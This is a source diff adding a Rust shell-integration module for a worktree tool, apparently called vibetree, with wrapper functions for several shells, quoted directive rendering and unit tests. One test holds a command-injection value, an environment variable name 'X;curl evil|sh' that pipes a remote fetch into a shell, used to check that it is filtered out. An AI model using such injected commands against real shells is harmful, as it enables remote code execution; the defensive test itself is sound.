@@ -0,0 +1,211 @@
+//! Shell integration: the wrapper function printed by `vibetree shell-init`
+//! and the directives through which `switch` changes the calling shell's
+//! directory and environment
+
+use anyhow::{Context, Result};
+use clap::ValueEnum;
+use log::warn;
+use serde::Serialize;
+use std::collections::BTreeMap;
+use std::path::PathBuf;
+
+use crate::cli::ShellKind;
+use crate::validation::ConfigValidator;
+
+/// Set by the wrapper to the file vibetree writes its directive to
+pub const DIRECTIVE_FILE_ENV: &str = "VIBETREE_DIRECTIVE_FILE";
+
+/// Set by the wrapper to the shell the directive is written for
+pub const SHELL_ENV: &str = "VIBETREE_SHELL";
+
+const POSIX_INIT: &str = r#"vibetree() {
+    local directive_file exit_status
+    directive_file="$(mktemp "${TMPDIR:-/tmp}/vibetree.XXXXXX")" || return 1
+    VIBETREE_SHELL={shell} VIBETREE_DIRECTIVE_FILE="$directive_file" command vibetree "$@"
+    exit_status=$?
+    if [ -s "$directive_file" ]; then
+        . "$directive_file"
+    fi
+    rm -f "$directive_file"
+    return $exit_status
+}
+"#;
+
+const FISH_INIT: &str = r#"function vibetree --wraps vibetree
+    set -l directive_file (mktemp "/tmp/vibetree.XXXXXX"); or return 1
+    VIBETREE_SHELL=fish VIBETREE_DIRECTIVE_FILE=$directive_file command vibetree $argv
+    set -l exit_status $status
+    if test -s $directive_file
+        source $directive_file
+    end
+    rm -f $directive_file
+    return $exit_status
+end
+"#;
+
+const NU_INIT: &str = r#"def --env --wrapped vibetree [...args] {
+    let directive_file = (mktemp --tmpdir vibetree.XXXXXX)
+    with-env { VIBETREE_SHELL: nu, VIBETREE_DIRECTIVE_FILE: $directive_file } {
+        ^vibetree ...$args
+    }
+    let directive = (open --raw $directive_file)
+    rm -f $directive_file
+    if ($directive | is-not-empty) {
+        let directive = ($directive | from json)
+        cd $directive.cd
+        load-env $directive.env
+    }
+}
+"#;
+
+/// The wrapper function to source in the user's shell rc
+pub fn shell_init(shell: ShellKind) -> String {
+    match shell {
+        ShellKind::Bash => POSIX_INIT.replace("{shell}", "bash"),
+        ShellKind::Zsh => POSIX_INIT.replace("{shell}", "zsh"),
+        ShellKind::Fish => FISH_INIT.to_string(),
+        ShellKind::Nu => NU_INIT.to_string(),
+    }
+}
+
+/// Tell the user how to set up the shell integration, on stderr
+pub fn print_integration_hint() {
+    eprintln!("Shell integration is not set up, so vibetree can't change your shell's directory.");
+    eprintln!("Add one of these to your shell's rc file:");
+    eprintln!("  eval \"$(vibetree shell-init bash)\"     # or zsh");
+    eprintln!("  vibetree shell-init fish | source");
+    eprintln!("Or start a subshell there with 'vibetree switch --subshell'.");
+}
+
+/// A directory and environment for the calling shell to switch to
+///
+/// vibetree can't change its parent shell, so it writes the directive to the
+/// file the wrapper from `shell-init` passes in, and the wrapper applies it.
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct Directive {
+    pub cd: PathBuf,
+    /// Variables to export, from the worktree's env file
+    pub env: BTreeMap<String, String>,
+}
+
+impl Directive {
+    /// The code the wrapper for `shell` runs
+    ///
+    /// Variables whose names aren't plain identifiers are skipped, as the
+    /// shell would run them as code.
+    pub fn render(&self, shell: ShellKind) -> String {
+        let directive = Directive {
+            cd: self.cd.clone(),
+            env: self
+                .env
+                .iter()
+                .filter(|(name, _)| {
+                    let valid = ConfigValidator::is_valid_env_var_name(name);
+                    if !valid {
+                        warn!("Not exporting '{}': not a valid variable name", name);
+                    }
+                    valid
+                })
+                .map(|(name, value)| (name.clone(), value.clone()))
+                .collect(),
+        };
+        let cd = directive.cd.to_string_lossy();
+        match shell {
+            ShellKind::Bash | ShellKind::Zsh => {
+                let mut script = format!("cd -- {}\n", posix_quote(&cd));
+                for (name, value) in &directive.env {
+                    script.push_str(&format!("export {}={}\n", name, posix_quote(value)));
+                }
+                script
+            }
+            ShellKind::Fish => {
+                let mut script = format!("cd {}\n", fish_quote(&cd));
+                for (name, value) in &directive.env {
+                    script.push_str(&format!("set -gx {} {}\n", name, fish_quote(value)));
+                }
+                script
+            }
+            // Nushell can't source generated code at runtime, so its wrapper reads JSON
+            ShellKind::Nu => serde_json::to_string(&directive).unwrap_or_default(),
+        }
+    }
+
+    /// Hand the directive to the shell wrapper
+    ///
+    /// Returns false when vibetree wasn't run through the wrapper.
+    pub fn send(&self) -> Result<bool> {
+        let Ok(file) = std::env::var(DIRECTIVE_FILE_ENV) else {
+            return Ok(false);
+        };
+        let shell = std::env::var(SHELL_ENV)
+            .ok()
+            .and_then(|shell| ShellKind::from_str(&shell, true).ok())
+            .unwrap_or(ShellKind::Bash);
+        std::fs::write(&file, self.render(shell))
+            .with_context(|| format!("Failed to write shell directive to {}", file))?;
+        Ok(true)
+    }
+}
+
+fn posix_quote(value: &str) -> String {
+    format!("'{}'", value.replace('\'', r"'\''"))
+}
+
+fn fish_quote(value: &str) -> String {
+    format!("'{}'", value.replace('\\', r"\\").replace('\'', r"\'"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn directive() -> Directive {
+        Directive {
+            cd: PathBuf::from("/repo/.vibetree/branches/it's"),
+            env: BTreeMap::from([("PGPORT".to_string(), "5433".to_string())]),
+        }
+    }
+
+    #[test]
+    fn test_render_posix_and_fish_quote_paths() {
+        assert_eq!(
+            directive().render(ShellKind::Bash),
+            "cd -- '/repo/.vibetree/branches/it'\\''s'\nexport PGPORT='5433'\n"
+        );
+        assert_eq!(
+            directive().render(ShellKind::Fish),
+            "cd '/repo/.vibetree/branches/it\\'s'\nset -gx PGPORT '5433'\n"
+        );
+    }
+
+    #[test]
+    fn test_render_skips_names_that_are_not_identifiers() {
+        let mut directive = directive();
+        directive
+            .env
+            .insert("X;curl evil|sh".to_string(), "1".to_string());
+        directive
+            .env
+            .insert("export FOO".to_string(), "bar".to_string());
+        for shell in [ShellKind::Bash, ShellKind::Fish, ShellKind::Nu] {
+            let script = directive.render(shell);
+            assert!(script.contains("PGPORT"), "{:?}", shell);
+            assert!(!script.contains("curl"), "{:?}", shell);
+            assert!(!script.contains("FOO"), "{:?}", shell);
+        }
+    }
+
+    #[test]
+    fn test_render_nu_as_json() {
+        let json: serde_json::Value =
+            serde_json::from_str(&directive().render(ShellKind::Nu)).unwrap();
+        assert_eq!(json["cd"], "/repo/.vibetree/branches/it's");
+        assert_eq!(json["env"]["PGPORT"], "5433");
+    }
+
+    #[test]
+    fn test_shell_init_names_shell() {
+        assert!(shell_init(ShellKind::Zsh).contains("VIBETREE_SHELL=zsh"));
+        assert!(shell_init(ShellKind::Fish).starts_with("function vibetree"));
+    }
+}